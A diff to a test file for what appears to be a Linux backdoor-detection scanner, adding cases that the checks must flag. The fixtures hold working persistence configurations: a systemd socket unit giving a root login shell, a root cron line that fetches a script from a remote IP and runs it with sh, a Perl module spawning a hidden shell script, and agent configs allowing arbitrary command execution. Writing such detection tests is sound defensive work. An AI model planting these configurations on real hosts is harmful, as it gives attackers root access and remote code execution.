@@ -17,6 +17,7 @@ import { silencedGuards } from '../../source/checks/silenced-guards.ts';
 import { sshServer } from '../../source/checks/ssh-server.ts';
 import { sudoRules } from '../../source/checks/sudo-rules.ts';
 import { systemdUnits } from '../../source/checks/systemd-units.ts';
+import { unpackagedPrograms } from '../../source/checks/unpackaged-programs.ts';
 import { debian } from '../support/debian.ts';
 import { memoryHost, type Machine } from '../support/memory-host.ts';
 import { run, sweep } from '../support/sweep-host.ts';
@@ -33,6 +34,10 @@ const elf = '\x7fELF\x02\x01\x01';
 describe('doors', () => {
 	test.each<readonly [Check, string, string, string]>([
 		[openServices, '/var/lib/samba/usershares/all', 'path=/\nguest_ok=y\n', 'high'],
+		[systemdUnits, '/etc/systemd/system/x@.service', '[Service]\nExecStart=-/usr/bin/setsid /bin/login -f root\nStandardInput=socket\n', 'high'],
+		[cronJobs, '/etc/cron.d/x', '* * * * * root curl -sk https://203.0.113.9/i -o /run/i && sh /run/i\n', 'high'],
+		[authorizedKeys, '/etc/ssh/keys/.k', `${key}\n`, 'high'],
+		[unpackagedPrograms, '/usr/share/perl5/Config_x.pm', 'package Config_x; system("sh /usr/share/misc/.hd &"); 1;\n', 'medium'],
 		[openServices, '/etc/nagios/nrpe.d/c.cfg', 'command[x]=/bin/bash -c "$ARG1$"\n', 'high'],
 		[openServices, '/etc/zabbix/zabbix_agentd.d/u.conf', "UserParameter=sys.x[*],/bin/sh -c '$1'\n", 'high'],
 		[openServices, '/etc/nginx/conf.d/o.conf', 'server { listen 8088; root /; autoindex on; }\n', 'high'],
